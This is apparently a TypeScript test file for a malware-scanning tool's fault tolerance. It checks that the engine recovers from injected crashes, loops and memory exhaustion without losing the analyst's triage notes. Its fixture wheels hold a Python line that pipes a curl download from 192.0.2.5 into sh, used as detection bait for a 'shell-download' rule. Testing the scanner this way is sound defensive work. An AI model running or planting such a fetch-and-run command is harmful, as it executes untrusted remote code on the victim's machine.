/**
 * The real engine behind the real host, made to fail at a named member (main/scan/fault-switch.ts): the host stays, says which member it was, opens
 * the case again and goes on without that member; nothing that the analyst did is lost, not even what was written right before.
 */
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { safe } from "@orpc/client";
import { afterEach, describe, expect, onTestFinished, test } from "vitest";
import { CLOSE_CODES } from "../../../main/api/handshake.ts";
import type { Analysis } from "../../../main/model/analysis/analysis.ts";
import type { WebHostOptions } from "../../../main/web/start-web-host.ts";
import { buildZip } from "../../support/zip-builder.ts";
import { judged } from "../api/stand-in-rooms.ts";
import { clientOf, closeCodeOf, dial, type Harness, logIn, openAll, startHarness } from "./web-harness.ts";

const FAULT = "VIVARIUM_FAULT";
const TIME = 300_000;

const payload = "import os\nos.system('curl http://192.0.2.5/x | sh')\n";
const fine = buildZip([{ name: "fine/__init__.py", content: payload }]);
const bad = buildZip([
	{ name: "bad/__init__.py", content: payload },
	{ name: "bad/evil.py", content: "x = 1\n" },
]);

afterEach(() => {
	delete process.env[FAULT];
});

async function start(fault: string, options: Partial<WebHostOptions> = {}): Promise<Harness> {
	process.env[FAULT] = fault;
	const folder = await mkdtemp(join(tmpdir(), "vivarium-survival-"));
	onTestFinished(() => rm(folder, { recursive: true, force: true }));
	const targets = [join(folder, "fine-1-py3-none-any.whl"), join(folder, "bad-1-py3-none-any.whl")];
	await writeFile(targets[0] ?? "", fine);
	await writeFile(targets[1] ?? "", bad);
	return startHarness({
		targets,
		offline: true,
		jobs: 1,
		engineEntry: new URL("../../../main/api/engine/engine-process.ts", import.meta.url),
		...options,
	});
}

async function openedId(client: ReturnType<typeof clientOf>, token: string): Promise<string> {
	const last = (await openAll(client, token)).at(-1);
	if (last?.type !== "opened") throw new Error(`Not opened: ${JSON.stringify(last)}`);
	return last.artifactId;
}

async function tokens(client: ReturnType<typeof clientOf>): Promise<[string, string]> {
	const { launch } = await client.host.info();
	return [launch[0]?.token ?? "", launch[1]?.token ?? ""];
}

interface Opened {
	readonly harness: Harness;
	readonly client: Client;
	/** The package that ends nothing. */
	readonly artifactId: string;
	readonly findingId: string;
}

type Client = ReturnType<typeof clientOf>;

/** Opens the harmless package, judges a finding of it, and notes something right before `provoke` ends the engine; then opens it again, and looks. */
async function survive(
	fault: string,
	options: Partial<WebHostOptions>,
	provoke: (client: Client, badToken: string) => Promise<unknown>,
): Promise<Opened & { readonly badToken: string }> {
	const harness = await start(fault, options);
	const cookie = await logIn(harness);
	const socket = dial(harness.authority, cookie);
	const closed = closeCodeOf(socket);
	const client = clientOf(socket);
	const [fineToken, badToken] = await tokens(client);

	const artifactId = await openedId(client, fineToken);
	const [finding] = (await client.artifact.analysis({ artifactId })).findings;
	const findingId = finding?.id ?? "";
	await client.triage.record({
		artifactId,
		action: { kind: "judge", findingIds: [findingId], state: "dismissed", reason: "known" },
	});
	await client.triage.record({ artifactId, action: { kind: "note", findingId, text: "written right before" } });
	const { error } = await safe(provoke(client, badToken));
	expect(error).not.toBeNull();
	expect(await closed).toBe(CLOSE_CODES.engineRestarted);

	const again = clientOf(dial(harness.authority, cookie));
	expect(await openedId(again, fineToken)).toBe(artifactId);
	const state = await again.triage.state({ artifactId });
	expect(state.findings.get(findingId)).toMatchObject({
		state: "dismissed",
		reason: "known",
		note: "written right before",
	});
	expect(harness.lines.join("\n")).toMatch(/started again; 1 member/);
	return { harness, client: again, artifactId, findingId, badToken };
}

function skippedOf(analysis: Analysis): [string, string][] {
	return analysis.coverage.skipped.map(({ path, reason }) => [path, reason]);
}

describe("a fault of the engine", () => {
	test.each([
		["a crash", "crash:engine:bad/evil.py", {}],
		["a loop without end", "loop:engine:bad/evil.py", { silenceMs: 6_000 }],
		["memory without end", "memory:engine:bad/evil.py", { memoryMegabytes: 900 }],
	])(
		"%s while it shows a member",
		async (_what, fault, options) => {
			const open = async (
				client: Client,
				token: string,
			): Promise<{ artifactId: string; evil: string; good: string }> => {
				const artifactId = await openedId(client, token);
				const { members } = await client.artifact.analysis({ artifactId });
				const idOf = (path: string): string => members.find((member) => member.path === path)?.id ?? "";
				return { artifactId, evil: idOf("bad/evil.py"), good: idOf("bad/__init__.py") };
			};
			const { client, badToken } = await survive(fault, options, async (first, token) => {
				const { artifactId, evil } = await open(first, token);
				return first.artifact.document({ artifactId, documentId: evil });
			});
			const { artifactId, evil, good } = await open(client, badToken);
			const { error } = await safe(client.artifact.document({ artifactId, documentId: evil }));
			expect(error?.message).toContain("ended while this was shown");
			expect(await client.artifact.document({ artifactId, documentId: good })).toMatchObject({
				text: payload,
			});
			// Workers read it.
			expect(judged(await client.artifact.analysis({ artifactId })).coverage.examined).toBe(2);
		},
		TIME,
	);

	test.each([
		["reads", "worker", "bad/evil.py", "the analysis engine ended while it read this member: not examined"],
		["unpacks", "open", "bad/evil.py", "the analysis engine ended while it unpacked this member: not examined"],
	])(
		"a crash of a thread that %s a member",
		async (_what, where, path, reason) => {
			const { client, badToken } = await survive(`crash:${where}:${path}`, { workers: "thread" }, openAll);
			const analysis = judged(await client.artifact.analysis({ artifactId: await openedId(client, badToken) }));
			expect(skippedOf(analysis)).toEqual([[path, reason]]);
			expect(analysis.status).toBe("partial");
			expect(analysis.findings.map((one) => one.rule)).toContain("shell-download");
		},
		TIME,
	);

	test(
		"a crash of a thread before any member costs that package, which is not opened again",
		async () => {
			const filename = "bad-1-py3-none-any.whl";
			const { client, badToken } = await survive(`crash:open:${filename}`, { workers: "thread" }, openAll);
			const { error } = await safe(openAll(client, badToken));
			expect(error?.message).toContain("does not open it again");
		},
		TIME,
	);
});

describe("a fault of a worker", () => {
	test.each([
		["process that reads a member", "crash:worker:bad/evil.py", {}, "the scanner died while it read this member"],
		["process that unpacks a member", "crash:open:bad/evil.py", {}, "the scanner died while it unpacked this member"],
		[
			"thread that is gone",
			"exit:open:bad/evil.py",
			{ workers: "thread" as const },
			"the scanner died while it unpacked this member",
		],
	])(
		"%s does not end the engine, and is told",
		async (_what, fault, options, reason) => {
			const harness = await start(fault, options);
			const client = clientOf(dial(harness.authority, await logIn(harness)));
			const [fineToken, badToken] = await tokens(client);
			const artifactId = await openedId(client, fineToken);
			const analysis = judged(await client.artifact.analysis({ artifactId: await openedId(client, badToken) }));
			expect(skippedOf(analysis)).toEqual([["bad/evil.py", `${reason}: not examined`]]);
			expect(analysis.findings.map((one) => one.rule)).toContain("shell-download");
			// What was open is open.
			expect(judged(await client.artifact.analysis({ artifactId })).coverage.examined).toBe(1);
			expect(harness.lines.join("\n")).not.toContain("started again");
		},
		TIME,
	);
});
